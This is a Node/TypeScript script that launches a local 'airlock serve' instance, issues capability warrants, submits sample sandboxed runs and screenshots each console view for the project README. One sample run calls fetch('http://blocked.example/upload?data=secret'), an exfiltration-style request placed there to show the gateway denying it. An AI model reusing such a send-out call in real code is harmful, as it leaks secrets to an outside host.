// Screenshots of each console view into docs/console/*.png, for the README. Starts a real
// `airlock serve` with a private home, makes a few runs (one clean, one with a denied fetch, one
// that throws, one run under a warrant), a sandbox with a command, a two-level warrant, a stored
// policy; then signs
// in with chromium and photographs each view. Run: node scripts/console-screenshots.ts
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { api, launchChromium, signIn, startServe, warrantCli } from '../test/console/helpers.ts';

const ROOT = join(import.meta.dirname, '..');
const OUT = join(ROOT, 'docs', 'console');
mkdirSync(OUT, { recursive: true });

await using serve = await startServe();
const { url } = serve;
const key = serve.key('acme');

const warrant = (args: string[]): Record<string, unknown> => warrantCli(serve.home, args);
const kid = String(warrant(['keygen', '--trust'])['kid']);
const root = String(warrant(['issue', '--key', kid, '--tenant', 'acme', '--ttl', '1h', '--grants', JSON.stringify([
  { tool: 'net.fetch', ops: ['get'], resources: ['net:http://allowed.example:80/*'] },
  { tool: 'mail.*', ops: ['read', 'send'], resources: ['mail:thread/*'] },
])])['token']);
const child = String(warrant(['attenuate', root, '--ttl', '15m', '--grants', JSON.stringify([{ tool: 'mail.*', ops: ['read'], resources: ['mail:thread/*'] }])])['token']);

const network = { routes: [{ host: 'allowed.example', scheme: 'http', methods: ['GET'] }] };
const runs = [
  { code: 'export default () => [1, 2, 3].map((n) => n * n)' },
  { code: "export default async () => { try { await fetch('http://blocked.example/upload?data=secret'); return 'sent'; } catch { return 'refused by the gateway'; } }", policy: { version: 1, network } },
  { code: "export default () => { throw new Error('the model wrote a bug'); }" },
  { code: "export default async () => { try { await fetch('http://allowed.example/admin'); } catch { return 'the warrant grants mail reads, no fetch'; } }", policy: { version: 1, network }, warrant: child },
  { code: 'export default () => JSON.stringify({ ok: true })' },
];
const ids: string[] = [];
for (const body of runs) ids.push(((await api(url, key, 'POST', '/v1/runs', body)).json as { id: string }).id);
await api(url, key, 'PUT', '/v1/policies/batch-jobs', { version: 1, limits: { wallMs: 10_000, cpuMs: 5_000, memoryMiB: 128 } });
const box = (await api(url, key, 'POST', '/v1/sandboxes', { policy: { version: 1, limits: { wallMs: 20_000 } } })).json as { id: string };
await fetch(`${url}/v1/sandboxes/${box.id}/commands`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' }, body: JSON.stringify({ argv: ['python3', '-c', 'print(sum(range(10)))'] }) }).then((r) => r.text());

await using chromium = await launchChromium();
const { page } = await chromium.page();
await page.setViewportSize({ width: 1280, height: 900 });
const shot = async (name: string): Promise<void> => {
  await page.screenshot({ path: join(OUT, `${name}.png`), fullPage: true });
  process.stdout.write(`docs/console/${name}.png\n`);
};

await page.goto(`${url}/console/sign-in`);
await shot('sign-in');
await signIn(page, url, key);
await shot('runs');
await page.goto(`${url}/console/runs/${ids[1] ?? ''}`);
await shot('run');
await page.goto(`${url}/console/sandboxes`);
await shot('sandboxes');
await page.goto(`${url}/console/warrants`);
await page.getByLabel('Warrant token').fill(child);
await page.getByRole('button', { name: 'Inspect' }).click();
await page.waitForLoadState('load');
await shot('warrants');
await page.goto(`${url}/console/check`);
await page.getByLabel('Policy').selectOption('batch-jobs');
await page.getByRole('button', { name: 'Run the check' }).click();
await page.locator('table.check, .problem').first().waitFor({ timeout: 120_000 });
await shot('check');
await page.goto(`${url}/console/audit`);
await shot('audit');
